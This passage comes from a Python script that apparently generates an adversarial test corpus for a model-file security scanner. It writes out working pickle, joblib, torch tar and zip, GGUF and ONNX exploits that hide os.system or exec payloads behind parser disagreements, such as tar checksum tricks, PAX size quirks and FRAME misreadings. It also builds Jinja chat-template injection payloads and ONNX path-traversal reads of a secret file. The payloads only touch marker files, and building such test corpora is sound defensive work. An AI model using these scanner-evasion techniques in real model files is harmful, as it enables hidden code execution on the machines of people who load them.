        A = b'\x00' * 8 + b'C' + bytes([x - 3]) + b'\x00' * (x - 3) + b'0'
        add(i, 'loader-disagreement', 'joblib', image,
            "a second joblib array whose wrapper ends a FRAME that goes on with the payload: joblib reads the array bytes after the frame, "
            "then runs the payload from the frame; the walker skips the payload as array bytes (the first array's STOP byte ends the plain reading)", RV,
            b'\x80\x04](' + ser(w1) + b'.' + b'\x95' + struct.pack('<Q', len(framed)) + framed + A + b'e.', ext='joblib')
    i = 'c4-gguf-torch-legacy-decimal-magic'
    # torch's legacy reader compares the first pickle with its magic number (!=): a Decimal equal to
    # it passes. The walker takes a legacy file (five pickles) only for the exact int; the
    # pickle.load reading of a non-pickle file (this GGUF) then ends at the first STOP.
    magic = "cdecimal\nDecimal\n(S'%d'\ntR." % TORCH_MAGIC
    sysinfo = "(S'protocol_version'\nI1001\nS'little_endian'\nI01\nS'type_sizes'\n(S'short'\nI2\nS'int'\nI4\nS'long'\nI4\ndd."
    key = '\n0' + magic + 'I1001\n.' + sysinfo + p0_system(touch(i)).decode() + '(l.'
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "a valid GGUF whose header starts a legacy torch.save stream (BINFLOAT, UNICODE line, then the first key): the magic-number "
        "pickle returns decimal.Decimal(magic), so the scanner reads one pickle; torch.load reads five, the fourth is the payload", RV,
        gguf([(key, 'x'), ('general.architecture', 'llama')], ['t%05d' % n for n in range(0x5600)], tensor_count=0x5600), ext='gguf')
    i = 'c4-joblib-wrapper-mareconstruct'
    # numpy.ma's _mareconstruct(subtype, baseclass, shape, dtype) ends with subtype.__new__(subtype,
    # data, mask=…, dtype=…): object.__new__ accepts the arguments (the wrapper defines __init__).
    pay = p0_system(touch(i))[:-1] + b'0'
    arr = b'B' + struct.pack('<I', len(pay))
    w = Build(Call(G('numpy.ma.core', '_mareconstruct'), JOBLIB_WRAPPER, G('numpy', 'ndarray'), (0,), 'u1'), wrapper_state(len(arr)))
    add(i, 'loader-disagreement', 'joblib', 'bookworm',
        "the same with a NumpyArrayWrapper made by numpy.ma.core._mareconstruct(NumpyArrayWrapper, ndarray, (0,), 'u1')", RV,
        b'\x80\x04' + ser(w) + arr + pay + b'.', ext='joblib')

def tar_typed(members, typ):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode, ti.type = len(data), 0, 0o644, typ
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def tar_joblib_polyglot(i):
    pay = p0_system(touch(i))[:-1] + b'0'
    arr = b'B' + struct.pack('<I', len(pay))  # the 5 array bytes joblib skips: a BINBYTES to pickle.load
    w = Build(Raw(ser(JOBLIB_WRAPPER) + b')\x81'), wrapper_state(len(arr)))
    head = b'\x80\x04B' + struct.pack('<I', 513 - 7)  # swallows the rest of the header and the member's first byte
    data = b'\x00' + ser(w) + arr + pay + b'.'
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.USTAR_FORMAT, encoding='utf-8', errors='surrogateescape') as t:
        ti = tarfile.TarInfo(head[:5].decode('utf-8', 'surrogateescape'))
        ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
        t.addfile(ti, io.BytesIO(data))
    out = buf.getvalue()
    assert out[:7] == head
    return out


def review2():
    """Second adversarial review of the issue 9 scanner (after the first round's fixes)."""
    for i, loader, image, head in (('c4-text-arg-nul-int', 'pickle', 'bookworm', b'I1\x00x\n0'),
                                   ('c4-text-arg-nul-put', 'torch', 'trixie', b'Np0\x00x\n0')):
        # _pickle.c reads INT with strtol and PUT/GET/LONG with PyLong_FromString, which stop at a
        # NUL: 'I1\0x' is 1 to Python. The walker calls the line unparseable at the first opcode, so
        # the file sniffs as unknown and the pickle.load reading of it ends there, harmlessly.
        add(i, 'loader-disagreement', loader, image,
            "a protocol 0 pickle whose first text argument has a NUL after its digits (C's strtol / PyLong_FromString stop there): "
            "the walker calls it unparseable, sniffs the file as unknown and drops the reading", RV,
            head + p0_system(touch(i)), ext='bin')
    i = 'c4-gguf-torch-legacy-stale-proto'
    # Each of torch's legacy pickles is a new Unpickler (protocol 0 until a PROTO): the walker keeps
    # the first pickle's PROTO 4 for the fourth, so it does not map __builtin__ to builtins, and an
    # import of the non-importable __builtin__ in a non-pickle file's reading is dropped.
    magic = "cdecimal\nDecimal\n(S'%d'\ntR." % TORCH_MAGIC
    sysinfo = "(S'protocol_version'\nI1001\nS'little_endian'\nI01\nS'type_sizes'\n(S'short'\nI2\nS'int'\nI4\nS'long'\nI4\ndd."
    key = b'\n0\x80\x04' + (magic + 'I1001\n.' + sysinfo + "c__builtin__\nexec\n(V%s\ntR." % pyw(i) + '(l.').encode()
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "the GGUF legacy-torch polyglot again, with PROTO 4 in the magic pickle and a protocol 0 __builtin__.exec in the fourth: "
        "torch's fourth Unpickler maps __builtin__ to builtins, the walker judges it at the stale protocol 4 as the unimportable "
        "__builtin__ and drops it", RV,
        gguf([(key, 'x'), ('general.architecture', 'llama')], ['t%05d' % n for n in range(0x5600)], tensor_count=0x5600), ext='gguf')
    i = 'c6-torch-tar-base256-chksum'
    # tarfile reads number fields with nti(), which takes GNU base-256 (a first byte 0x80) for the
    # checksum too; the sniffer wants octal digits, so the file is not a tar to it (nor a pickle).
    zero = pkl(0, 2)
    members = {'sys_info': legacy_parts()[2], 'storages': zero + pkl([], 2), 'tensors': zero, 'pickle': pkl(Call(SYSTEM, touch(i)), 2)}
    add(i, 'compressed', 'torch', 'trixie',
        "legacy torch tar checkpoint whose headers store the checksum in base-256 (tarfile's nti reads it): the sniffer does not "
        "take it for a tar and scans the payload member as nothing", RV,
        tar_base256_chksums(tar_bytes([(k, members[k]) for k in ('sys_info', 'storages', 'tensors', 'pickle')])), ext='tar')


def tar_base256_chksums(data):
    out = bytearray(data)
    off = 0
    while off + 512 <= len(out) and any(out[off:off + 512]):
        h = out[off:off + 512]
        out[off + 148:off + 156] = b'\x80' + (256 + sum(h[:148]) + sum(h[156:512])).to_bytes(7, 'big')
        size = int(bytes(h[124:136]).split(b'\0')[0].strip() or b'0', 8)
        off += 512 + (size + 511) // 512 * 512
    return bytes(out)


def review3():
    """Third adversarial review of the issue 9 scanner."""
    for i, image in (('c4-joblib-rebuild-alignment', 'bookworm'), ('c4-joblib-rebuild-alignment-np2', 'trixie')):
        # A memoized NumpyArrayWrapper built twice: BUILD merges each state into the wrapper's
        # __dict__, so the second read still has the first state's numpy_array_alignment_bytes and
        # joblib reads a padding byte (67: 'C') and skips 67 bytes; the walker sizes the second read
        # by the second state alone (no alignment, no padding byte) and walks a SHORT_BINBYTES over
        # the payload.
        pay = p0_system(touch(i))[:-1] + b'0'
        n = 66 + len(pay)
        first = ser(JOBLIB_WRAPPER) + b')\x81\x94' + ser(wrapper_state(1, align=True)) + b'b' + b'\x00\x00' + b'0'
        second = b'h\x00' + ser(wrapper_state(0)) + b'b' + b'C' + bytes([n]) + b'\x00' * 66 + pay
        add(i, 'loader-disagreement', 'joblib', image,
            "a memoized joblib NumpyArrayWrapper built a second time with a state that leaves out numpy_array_alignment_bytes: "
            "BUILD merges into __dict__, so joblib still reads a padding byte (67) and skips the bytes that hide the payload from the "
            "walker, which sizes the second read by the second state alone", RV,
            b'\x80\x04' + first + second + b'.', ext='joblib')


# ---------------------------------------------------------------------------------------------
# Fourth review: chat templates, tar headers.


def tar_header(name, size, typ=b'0'):
    """One ustar header block, by hand (tarfile would not write the fields as given)."""
    h = bytearray(512)
    n = name if isinstance(name, bytes) else name.encode()
    h[0:len(n)] = n
    h[100:108] = b'0000644\0'
    h[108:116] = b'0000000\0'
    h[116:124] = b'0000000\0'
    h[124:136] = b'%011o\0' % size
    h[136:148] = b'00000000000\0'
    h[148:156] = b' ' * 8
    h[156:157] = typ
    h[257:263] = b'ustar\0'
    h[263:265] = b'00'
    h[148:156] = b'%06o\0 ' % sum(h)
    return bytes(h)


def tar_block(b):
    return b + b'\0' * ((512 - len(b) % 512) % 512)


def pax_record(k, v):
    body = ' %s=%s\n' % (k, v)
    n = len(body) + 1
    while len(str(n)) + len(body) != n:
        n = len(str(n)) + len(body)
    return ('%d%s' % (n, body)).encode()


def review4():
    i = 'c8-subscript-test-argument'
    add(i, 'gguf-chat-template', 'jinja', 'bookworm',
        "messages[0 is sameas PAYLOAD]: jinja2 takes the primary after a test name as the test's argument; "
        "@huggingface/jinja ends the test at its name and keeps only the first of the expressions in [...], so the judge never sees the payload",
        RV, chat_gguf("{{ messages[0 is sameas cycler.__init__.__globals__.os.system('%s')] }}" % touch(i)), ext='gguf')
    i = 'c8-subscript-minus-after-dict'
    add(i, 'gguf-chat-template', 'jinja', 'bookworm',
        "messages[{} - PAYLOAD]: jinja2 evaluates both operands (the payload runs, then the subtraction fails); "
        "@huggingface/jinja lexes a '-' after '}' as a unary sign, so [...] holds two expressions and its syntax tree keeps only the {}",
        RV, chat_gguf("{{ messages[{} - cycler.__init__.__globals__.os.system('%s')] }}" % touch(i)), ext='gguf')
    i = 'c4-tar-pax-size-underscore'
    pay = p0_system(touch(i))
    pax = pax_record('size', '0_%d' % len(pay))
    data = tar_header('./PaxHeaders/storages', len(pax), b'x') + tar_block(pax)
    # Python's tarfile reads the PAX size with int() (0_33 is 33): storages holds the payload,
    # which torch's legacy_load unpickles. tar-stream's parseInt reads 0: an empty member, and
    # the payload block is the header of a next, empty member whose name is the pickle.
    data += tar_header('storages', 0) + tar_header(pay, 0) + b'\0' * 1024
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "a legacy tar checkpoint whose storages member has the PAX size '0_33': tarfile reads 33 bytes (int() takes underscores) "
        "and torch unpickles them; tar-stream reads size 0 (parseInt) and takes the payload for the next member's header", RV, data, ext='tar')
    # onnx.proto is proto2: its DataLocation enum is closed, so a value it does not name (2) goes
    # to the unknown fields and data_location keeps the EXTERNAL before it; the scanner keeps the last value.
    t = ext_tensor('W', '../../../../secret/secret.bin') + pf(14, 2)
    add_onnx('c7-data-location-unknown-enum', 'onnx-external-data', 'onnxruntime',
             "an initializer whose data_location is EXTERNAL, then 2 (not a DataLocation: protobuf keeps EXTERNAL, the scanner takes 2 for not external), at a location climbing out with '..',",
             model(graph([node('Identity', ['W'], ['Y'])], [value_info('Y')], inits=[t])), None)


def tar_retyped(header, **fields):
    """A tar header with byte ranges replaced ({offset: bytes}) and its checksum recomputed."""
    h = bytearray(header)
    for off, b in fields.get('at', {}).items():
        h[off:off + len(b)] = b
    h[148:156] = b' ' * 8
    h[148:156] = b'%06o\0 ' % sum(h)
    return bytes(h)


def review5():
    # tarfile turns only an AREGTYPE ('\0') named 'd/' into a directory; a REGTYPE ('0') stays a
    # file whose data it skips. The scanner takes both for directories and reads their data as headers.
    i = 'c9-tar-regtype-slash'
    pay = p0_system(touch(i))
    data = tar_header('d/', 1024) + b'\0' * 1024 + tar_header('storages', len(pay)) + tar_block(pay) + b'\0' * 1024
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "a legacy tar checkpoint whose first member is a REGTYPE '0' named 'd/' holding two zero blocks: tarfile keeps it a file "
        "(only AREGTYPE '\\0' becomes a directory) and skips them, then torch unpickles storages; the scanner takes it for a directory "
        "and stops at the zero blocks", RV, data, ext='tar')
    # A GNU sparse member ('S') is a regular file to tarfile (its data skipped, extracted through
    # the sparse map); the scanner gives it no data. The data block is also a valid empty header.
    i = 'c9-tar-gnu-sparse-storages'
    pay = p0_system(touch(i))
    head = tar_retyped(tar_header('storages', len(pay), b'S'),
                       at={386: b'%011o\0' % 0, 398: b'%011o\0' % len(pay), 483: b'%011o\0' % len(pay)})
    data = head + tar_header(pay, 0) + b'\0' * 1024
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "a legacy tar checkpoint whose storages member is GNU sparse ('S', one chunk of 33 bytes): tarfile extracts it and torch "
        "unpickles it; the scanner reads no data for the type and takes the data block (a valid header) for an empty member", RV, data, ext='tar')
    # _apply_pax_info sets the size from GNU.sparse.realsize after the next header's offset was
    # computed from the header's size (0): the member's bytes are the next block, a valid header.
    i = 'c9-tar-pax-sparse-realsize'
    pay = p0_system(touch(i))
    pax = pax_record('GNU.sparse.realsize', str(len(pay)))
    data = (tar_header('./PaxHeaders/storages', len(pax), b'x') + tar_block(pax) + tar_header('storages', 0)
            + tar_header(pay, 0) + b'\0' * 1024)
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "a legacy tar checkpoint whose storages member has size 0 and a PAX GNU.sparse.realsize of 33: tarfile reads the 33 bytes "
        "after its header (the next header's name field, the payload) and torch unpickles them; the scanner ignores the record", RV, data, ext='tar')
    # Two PAX headers in a row: _proc_pax recurses, so the outer (first) header's records are
    # applied last; the scanner keeps only the second's.
    i = 'c9-tar-pax-nested-size'
    pay = p0_system(touch(i))
    p1 = pax_record('size', str(len(pay)))
    p2 = pax_record('size', '0')
    data = (tar_header('./PaxHeaders/a', len(p1), b'x') + tar_block(p1) + tar_header('./PaxHeaders/b', len(p2), b'x')
            + tar_block(p2) + tar_header('storages', 0) + tar_header(pay, 0) + b'\0' * 1024)
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "a legacy tar checkpoint whose storages member follows two PAX headers (size=33, then size=0): tarfile applies the first "
        "one's records last (33 bytes, the payload, which torch unpickles); the scanner keeps the second's size 0", RV, data, ext='tar')


def review6():
    # torch.storage._load_from_bytes(b) runs torch.load(b, weights_only=False). The scanner scans
    # those bytes only in the file's own reading: in the pickle.load fork over joblib's array bytes
    # and in the pickle.load reading of a non-pickle file, the nested load is never followed.
    i = 'c10-joblib-array-load-from-bytes'
    arr = ser(Call(G('torch.storage', '_load_from_bytes'), p0_system(touch(i)))) + b'.'
    add(i, 'loader-disagreement', 'pickle', 'trixie',
        "a joblib file whose array bytes (skipped by joblib, opcodes to pickle.load) call torch.storage._load_from_bytes on a "
        "payload pickle: torch.load runs it; the scanner scans nested loads of the joblib reading only", RV,
        joblib_file(b'N' * 78, arr), ext='joblib')
    i = 'c10-gguf-load-from-bytes'
    body = ser(Call(G('torch.storage', '_load_from_bytes'), p0_system(touch(i)))) + b'.'
    names = ['t%05d' % n for n in range(0x5600)]
    add(i, 'loader-disagreement', 'pickle', 'trixie',
        "a valid GGUF whose header is a pickle prefix (BINFLOAT, UNICODE line) and whose first key calls "
        "torch.storage._load_from_bytes on a payload pickle: pickle.load runs torch.load on it; the scanner's reading of "
        "the non-pickle file drops the nested load", RV,
        gguf([('\n0' + body.decode('latin1'), 'x'), ('general.architecture', 'llama')], names, tensor_count=0x5600), ext='gguf')
    # pandas' NDFrame.__setstate__ sets every key of its state with object.__setattr__, __class__
    # included: the DataFrame becomes a NumpyArrayWrapper, and joblib reads array bytes after the
    # BUILD. The judge takes the BUILD for a __setstate__ call on a DataFrame.
    i = 'c10-joblib-dataframe-becomes-wrapper'
    pay = p0_system(touch(i))
    arr = b'B' + struct.pack('<I', len(pay))
    state = {'_typ': 'dataframe', '__class__': JOBLIB_WRAPPER, 'subclass': G('numpy', 'ndarray'),
             'shape': (len(arr),), 'order': 'C', 'dtype': np_dtype('u1'), 'allow_mmap': False}
    df = Raw(ser(G('pandas.core.frame', 'DataFrame')) + b')\x81')
    add(i, 'loader-disagreement', 'joblib', 'bookworm',
        "a DataFrame whose BUILD state sets __class__ to NumpyArrayWrapper (NDFrame.__setstate__ setattr's every key): joblib "
        "reads 5 array bytes (a BINBYTES header to the scanner) and runs the payload they hid", RV,
        b'\x80\x02' + ser(Build(df, state)) + arr + pay + b'.', ext='joblib')


def review7():
    # _pickle.c reads a FRAME of 8 KiB or more with one read() of the whole frame (pickle.py's
    # _Unframer always does): a STOP inside it leaves the file at the frame's end, and the next
    # pickle.load of the stream starts there. The walker starts the next pickle right after the STOP.
    i = 'c11-torch-legacy-frame-skip'
    inner = ser(TORCH_MAGIC) + b'.' + b'M\xe9\x03.' + b'}.' + b'}.' + b'].'
    n = 9000
    inner += b'N' * (n - len(inner))
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "a legacy torch.save stream whose magic pickle sits in a 9000-byte FRAME that goes on with four benign pickles: torch's "
        "C unpickler reads the whole frame, so its second pickle.load starts after the frame (the payload); the walker reads the "
        "four in-frame pickles as protocol, sys_info, object and keys and stops", RV,
        b'\x80\x04\x95' + struct.pack('<Q', n) + inner + pkl(1001, 2) + p0_system(touch(i)), ext='pt')
    i = 'c11-pickle-stream-frame-skip'
    pay = p0_system(touch(i))
    head = ser({'w': 1}) + b'.'
    inner = head + b'B' + struct.pack('<I', n - len(head) - 5 + len(pay))
    inner += b'\0' * (n - len(inner))
    add(i, 'loader-disagreement', 'pickle-stream', 'bookworm',
        "a pickle in a 9000-byte FRAME whose rest is a BINBYTES running past the frame over a payload pickle: pickle.load leaves "
        "the file at the frame's end, so the next pickle.load runs the payload; the walker reads the BINBYTES as the second pickle", RV,
        b'\x80\x04\x95' + struct.pack('<Q', n) + inner + pay + b'.', ext='pkl')
    # A torch zip's data.pkl that sniffs as a tar (a BINBYTES over the header and the two end
    # blocks) is walked only as pickle.load reads it, without persistent_load: the reading stops
    # at a BINPERSID, which torch's unpickler resolves (a storage of 0 elements) before the payload.
    i = 'c11-torchzip-tar-persid'
    name = b'B' + struct.pack('<I', 507 + 1024)
    pid = b"(Vstorage\nctorch\nFloatStorage\nV0\nVcpu\nI0\ntQ0"
    body = tar_header(name, 0) + b'\0' * 1024 + pid + p0_system(touch(i))
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "a torch zip whose data.pkl is also a tar (a BINBYTES over its header and end blocks): the scanner walks it as pickle.load "
        "would, which raises at the BINPERSID; torch's persistent_load returns a storage and the payload after it runs", RV,
        torch_zip(body, extra=[('archive/data/0', b'')]), ext='pt')

    # torch's legacy persistent_load returns data[0] of a ('module', x, src_file, src) id whatever
    # x is, the typename decoded from bytes: the walker resolves only a Global x given the str
    # 'module', else an opaque reference, and calling that in a non-pickle file's reading counts
    # as Python raising. Calls through it escape getattr's rule: a chain to builtins.exec.
    i = 'c11-gguf-legacy-persid-module-bytes'

    def via_pid(x):
        return '(C\x06module' + x + 'V\nV\ntQ'
    obj = ('cbuiltins\ngetattr\np0\n0ctorch.nn.modules.linear\nLinear\np1\n0'
           + via_pid('g0\n') + '(g1\nV__init__\ntRp2\n0'
           + via_pid('g0\n') + '(g2\nV__globals__\ntRp3\n0'
           + via_pid('g0\n') + '(g3\nVget\ntRp4\n0'
           + via_pid('g4\n') + '(V__builtins__\ntRp5\n0'
           + via_pid('g0\n') + '(g5\nVget\ntRp6\n0'
           + via_pid('g6\n') + '(Vexec\ntRp7\n0'
           + via_pid('g7\n') + '(V%s\ntR.' % pyw(i))
    sysinfo = "(S'protocol_version'\nI1001\nS'little_endian'\nI01\nS'type_sizes'\n(S'short'\nI2\nS'int'\nI4\nS'long'\nI4\ndd."
    key = '\n0' + 'L%dL\n.' % TORCH_MAGIC + 'I1001\n.' + sysinfo + obj + '(l.'
    add(i, 'loader-disagreement', 'torch', 'trixie',
        "a valid GGUF that is a legacy torch.save stream whose object pickle calls getattr, dict.get and exec each through a "
        "persistent id (b'module', f, '', ''), which torch's persistent_load hands back as f: the walker makes each an opaque "
        "reference and, in a non-pickle file's reading, takes calling one for Python raising; getattr's rule is never checked", RV,
        gguf([(key, 'x'), ('general.architecture', 'llama')], ['t%05d' % n for n in range(0x5600)], tensor_count=0x5600), ext='gguf')

    # tarfile's nti() reads a number field with str.strip() and int(): both drop the ASCII
    # separators \x1c-\x1f, which JavaScript's trim() keeps, so the sniffer does not take the
    # file for a tar (nor a pickle) and the members torch unpickles are never read.
    i = 'c11-torch-tar-chksum-fs'
    zero = pkl(0, 2)
    members = {'sys_info': legacy_parts()[2], 'storages': zero + pkl([], 2), 'tensors': zero, 'pickle': pkl(Call(SYSTEM, touch(i)), 2)}
    add(i, 'compressed', 'torch', 'trixie',
        "legacy torch tar checkpoint whose header checksums start with \\x1c (a separator str.strip() drops, as tarfile's nti "
        "reads it): the sniffer does not take it for a tar and scans it as an unknown file", RV,
        tar_fs_chksums(tar_bytes([(k, members[k]) for k in ('sys_info', 'storages', 'tensors', 'pickle')])), ext='tar')

    # A STACK_GLOBAL name longer than the walker keeps (1024 characters) is an unresolved import,
    # which in a reading of bytes meant for another loader counts as Python raising. Python 3
    # follows a dotted name at protocol 4: os.path.os.path…system is os.system.
    name = 'path.os.' * 130 + 'system'

    def long_dotted(i):
        return (b'\x80\x04\x8c\x02os' + b'X' + struct.pack('<I', len(name)) + name.encode() + b'\x93'
                + ser(touch(i)) + b'\x85R.')
    i = 'c11-gguf-long-dotted-name'
    add(i, 'loader-disagreement', 'pickle', 'bookworm',
        "a valid GGUF whose header is a pickle prefix and whose first key imports os.path.os.path…system (a dotted name of "
        "1046 characters) with STACK_GLOBAL: the walker keeps no name that long, calls the import unresolved, and the "
        "pickle.load reading of a non-pickle file takes that for Python raising", RV,
        gguf([(b'\n0' + long_dotted(i), 'x'), ('general.architecture', 'llama')], ['t%05d' % n for n in range(0x5600)],
             tensor_count=0x5600), ext='gguf')
    i = 'c11-joblib-array-long-dotted-name'
    add(i, 'loader-disagreement', 'pickle', 'bookworm',
        "the same long dotted import in a joblib file's array bytes (skipped by joblib, opcodes to pickle.load): the "
        "pickle.load fork drops unresolved imports as Python raising", RV,
        joblib_file(b'N' * 78, long_dotted(i)[2:]), ext='joblib')

    # A FRAME opcode ending a frame that holds a joblib wrapper: pickle.py's _Unframer reads the
    # new frame from the file, after the array bytes the wrapper read; the walker dates the new
    # frame from the FRAME opcode, so its end comes too early by those bytes, and a second
    # wrapper's BUILD in it looks past the frame: the walker skips the framed payload after it
    # as array bytes, while joblib reads the array after the frame and runs the payload.
    for i, image in (('c11-joblib-nested-frame', 'bookworm'), ('c11-joblib-nested-frame-np2', 'trixie')):
        x_ = p0_system(touch(i))[:-1] + b'0'
        a1 = len(x_) + 16
        f2 = ser(Build(Raw(ser(JOBLIB_WRAPPER) + b')\x81'), wrapper_state(len(x_)))) + x_
        f1 = b'](' + ser(Build(Raw(ser(JOBLIB_WRAPPER) + b')\x81'), wrapper_state(a1))) + b'\x95' + struct.pack('<Q', len(f2))
        add(i, 'loader-disagreement', 'joblib', image,
            "a joblib FRAME whose last opcode is a FRAME: joblib reads the second frame after the first array's bytes, the walker "
            "from where the opcode ends, so a second wrapper in it seems to read past the frame, and the walker skips the framed "
            "payload as array bytes (the first array's 'N.' ends the pickle.load reading)", RV,
            b'\x80\x04\x95' + struct.pack('<Q', len(f1)) + f1 + b'N.' + b'\0' * (a1 - 2) + f2 + b'N' * len(x_) + b'e.', ext='joblib')


def tar_fs_chksums(data):
    out = bytearray(data)
    off = 0
    while off + 512 <= len(out) and any(out[off:off + 512]):
        h = out[off:off + 512]
        out[off + 148:off + 156] = b'\x1c%06o\0' % (256 + sum(h[:148]) + sum(h[156:512]))
        size = int(bytes(h[124:136]).split(b'\0')[0].strip() or b'0', 8)
        off += 512 + (size + 511) // 512 * 512
    return bytes(out)


def main():
    cat1()
    cat2()
    cat3()
    cat4()
    cat5()
    cat6()
    cat7()
    cat8()
    review()
    review2()
    review3()
    review4()
    review5()
    review6()
    review7()
    ids = [e['id'] for e in ENTRIES]
    assert len(ids) == len(set(ids)), 'duplicate ids'
    if os.path.isdir(FILES):
        shutil.rmtree(FILES)
    os.makedirs(FILES)
    for e in ENTRIES:
        data = e.pop('data')
        if data is not None:
            with open(os.path.join(OUT, e['file']), 'wb') as f:
                f.write(data)
    for i, (data, locations) in ONNX_DIRS.items():
        d = os.path.join(FILES, 'onnx', i)
        os.makedirs(d)
        with open(os.path.join(d, 'model.onnx'), 'wb') as f:
            f.write(data)
        if locations == 'link':
            os.symlink('../../../../secret/secret.bin', os.path.join(d, 'weights.bin'))
        if locations == 'decoy':
            with open(os.path.join(d, 'weights.bin'), 'wb') as f:
                f.write(b'\0' * SECRET_LEN)
    corpus = {
        'about': 'Malicious files built by scripts/adversarial/make.py; load.py runs each through its loader. '
        'Markers: /out/<id>. ONNX files read %s (mounted by the test) into a tensor.' % SECRET,
        'secret': SECRET,
        'entries': ENTRIES,
    }
    with open(os.path.join(OUT, 'corpus.json'), 'w') as f:
        json.dump(corpus, f, indent=1)
        f.write('\n')
    counts = {}
    for e in ENTRIES:
        counts[e['category']] = counts.get(e['category'], 0) + 1
    print(len(ENTRIES), 'files:', json.dumps(counts), file=sys.stderr)


if __name__ == '__main__':
    main()
